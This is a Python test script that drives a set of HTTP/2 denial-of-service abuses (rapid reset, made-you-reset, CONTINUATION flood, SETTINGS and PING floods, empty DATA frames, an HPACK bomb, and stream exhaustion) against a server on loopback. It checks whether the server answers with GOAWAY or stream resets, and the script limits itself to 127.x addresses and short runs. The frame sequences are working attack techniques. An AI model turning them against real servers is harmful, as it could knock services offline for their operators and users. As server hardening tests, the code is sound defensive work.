#!/usr/bin/python3
"""Raw-frame HTTP/2 abuses against a server on loopback, one per mode, for Rampart's tests.

Usage: h2attack.py MODE HOST PORT [COUNT [SOURCE]]
Prints one JSON line: what was sent, what came back (GOAWAY and its error code, RST_STREAMs),
and whether the server closed the connection. Sends only to the given loopback address and
stops by itself (COUNT frames or streams at most, 20 seconds at most).

Modes: rapid-reset, made-you-reset, continuation-flood, settings-flood, ping-flood,
empty-data, hpack-bomb, streams.
"""
import json
import socket
import sys
import time

from hpack import Encoder
from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame,
                              RstStreamFrame, SettingsFrame, WindowUpdateFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
ERRORS = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR", 6: "FRAME_SIZE_ERROR",
          7: "REFUSED_STREAM", 8: "CANCEL", 9: "COMPRESSION_ERROR", 11: "ENHANCE_YOUR_CALM"}


class Conn:
    def __init__(self, host, port, source=None):
        if not host.startswith("127.") or (source and not source.startswith("127.")):
            raise SystemExit("loopback only")
        self.s = socket.create_connection((host, port), timeout=5, source_address=(source, 0) if source else None)
        self.s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.enc = Encoder()
        self.buf = b""
        self.goaway = None
        self.resets = {}
        self.closed = False  # the server closed or reset the connection (seen by a send or a read)
        self.drained = False  # everything the server sent has been read (end of stream or error)
        self.s.sendall(PREFACE + SettingsFrame(0).serialize())

    def send(self, *frames):
        try:
            self.s.sendall(b"".join(f.serialize() for f in frames))
            return True
        except OSError:
            self.closed = True
            return False

    def headers(self, stream, end_stream=True, path="/echo", method="GET", extra=()):
        block = self.enc.encode([(":method", method), (":scheme", "http"), (":authority", "attack.example"),
                                 (":path", path)] + list(extra))
        f = HeadersFrame(stream, block)
        f.flags.add("END_HEADERS")
        if end_stream:
            f.flags.add("END_STREAM")
        return f

    def drain(self, seconds):
        """Reads what the server sends for up to `seconds` (or until it closes).

        A send that failed (the server reset the connection) does not stop the reading: the
        server's last frames, its GOAWAY among them, are still in the receive queue."""
        end = time.time() + seconds
        self.s.settimeout(0.05)
        while time.time() < end and not self.drained:
            try:
                data = self.s.recv(65536)
            except socket.timeout:
                continue
            except OSError:
                self.closed = self.drained = True
                break
            if not data:
                self.closed = self.drained = True
                break
            self.buf += data
            while len(self.buf) >= 9:
                f, length = Frame.parse_frame_header(memoryview(self.buf[:9]))
                if len(self.buf) < 9 + length:
                    break
                f.parse_body(memoryview(self.buf[9:9 + length]))
                self.buf = self.buf[9 + length:]
                if isinstance(f, GoAwayFrame):
                    # keep the first GOAWAY that gives a reason; a later NO_ERROR one only says goodbye
                    if self.goaway in (None, "NO_ERROR"):
                        self.goaway = ERRORS.get(f.error_code, str(f.error_code))
                elif isinstance(f, RstStreamFrame):
                    name = ERRORS.get(f.error_code, str(f.error_code))
                    self.resets[name] = self.resets.get(name, 0) + 1
                elif isinstance(f, SettingsFrame) and "ACK" not in f.flags:
                    self.send(SettingsFrame(0, flags=["ACK"]))

    def report(self, mode, sent, started):
        self.drain(1.0)
        print(json.dumps({"mode": mode, "sent": sent, "goaway": self.goaway, "resets": self.resets,
                          "closed": self.closed, "seconds": round(time.time() - started, 2)}))


def main():
    mode, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
    count = int(sys.argv[4]) if len(sys.argv) > 4 else 5000
    source = sys.argv[5] if len(sys.argv) > 5 else None
    started = time.time()
    deadline = started + 20
    c = Conn(host, port, source)
    c.drain(0.2)
    sent = 0
    if mode == "rapid-reset":
        stream = 1
        while sent < count and not c.closed and time.time() < deadline:
            c.send(c.headers(stream), RstStreamFrame(stream, error_code=8))
            stream += 2
            sent += 1
            if sent % 100 == 0:
                c.drain(0.01)
    elif mode == "made-you-reset":
        # a WINDOW_UPDATE of 0 on an open stream is a stream error: the server must reset the stream
        stream = 1
        while sent < count and not c.closed and time.time() < deadline:
            c.send(c.headers(stream, end_stream=False, method="POST"), WindowUpdateFrame(stream, window_increment=0))
            stream += 2
            sent += 1
            if sent % 100 == 0:
                c.drain(0.01)
    elif mode == "continuation-flood":
        block = c.enc.encode([(":method", "GET"), (":scheme", "http"), (":authority", "a"), (":path", "/")])
        c.send(HeadersFrame(1, block))  # no END_HEADERS: CONTINUATION frames must follow
        junk = c.enc.encode([("x-junk", "y" * 1000)])
        while sent < count and not c.closed and time.time() < deadline:
            c.send(ContinuationFrame(1, junk))
            sent += 1
            if sent % 50 == 0:
                c.drain(0.01)
    elif mode in ("settings-flood", "ping-flood"):
        # never read: the acknowledgements pile up on the server
        frame = SettingsFrame(0, settings={SettingsFrame.MAX_CONCURRENT_STREAMS: 100}) if mode == "settings-flood" \
            else PingFrame(0, opaque_data=b"12345678")
        payload = frame.serialize() * 1000
        c.s.settimeout(2)
        while sent < count and not c.closed and time.time() < deadline:
            try:
                c.s.sendall(payload)
                sent += 1000
            except OSError:
                c.closed = True
    elif mode == "empty-data":
        c.send(c.headers(1, end_stream=False, method="POST"))
        while sent < count and not c.closed and time.time() < deadline:
            c.send(DataFrame(1, b""))
            sent += 1
            if sent % 100 == 0:
                c.drain(0.01)
    elif mode == "hpack-bomb":
        # one big value goes into the dynamic table, then it is referenced again and again: a few
        # bytes on the wire that decode to far more than any header list limit
        big = "z" * 4000
        first = c.enc.encode([(":method", "GET"), (":scheme", "http"), (":authority", "a"), (":path", "/"), ("x-bomb", big)])
        c.send(HeadersFrame(1, first, flags=["END_HEADERS", "END_STREAM"]))
        stream = 3
        while sent < count and not c.closed and time.time() < deadline:
            again = c.enc.encode([(":method", "GET"), (":scheme", "http"), (":authority", "a"), (":path", "/")]
                                 + [("x-bomb", big)] * 200)
            c.send(HeadersFrame(stream, again, flags=["END_HEADERS", "END_STREAM"]))
            stream += 2
            sent += 1
            c.drain(0.02)
    elif mode == "streams":
        # open many streams and never finish them (POST bodies that never come)
        stream = 1
        while sent < count and not c.closed and time.time() < deadline:
            c.send(c.headers(stream, end_stream=False, method="POST", path="/upload"))
            stream += 2
            sent += 1
        c.drain(1.0)
    else:
        raise SystemExit("unknown mode " + mode)
    c.report(mode, sent, started)


if __name__ == "__main__":
    main()
